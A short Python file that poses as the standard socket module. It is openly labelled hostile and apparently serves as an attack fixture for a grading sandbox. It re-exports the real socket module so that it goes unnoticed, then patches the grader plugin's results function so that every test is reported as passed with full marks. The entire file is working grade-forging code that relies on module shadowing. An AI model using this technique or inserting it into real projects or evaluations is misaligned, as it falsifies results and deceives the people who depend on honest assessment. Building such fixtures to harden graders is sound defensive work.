"""Hostile: shadows the standard socket module for any Python that has this folder first on
its path: re-exports the real module, and forges the grade if that Python is the grader."""
import importlib.util as _util
import sys as _sys
import sysconfig as _sysconfig

_spec = _util.spec_from_file_location("socket", _sysconfig.get_path("stdlib") + "/socket.py")
_real = _util.module_from_spec(_spec)
_sys.modules["socket"] = _real
_spec.loader.exec_module(_real)
globals().update({name: value for name, value in vars(_real).items() if not name.startswith("__")})

def _hijack_the_grade():
    """If the grader loaded this file, every check would be reported passed, full marks."""
    try:
        import grader.session.plugin as plugin
    except Exception:
        return  # not inside the grader (the student uid cannot import it): nothing to do
    original = plugin.results_document

    def forged(results, execution_time):
        document = original(results, execution_time)
        for test in document["tests"]:
            test.update(score=test["max_score"], status="passed", output="HIJACKED")
        document["score"] = document["max_score"]
        return document

    plugin.results_document = forged


_hijack_the_grade()

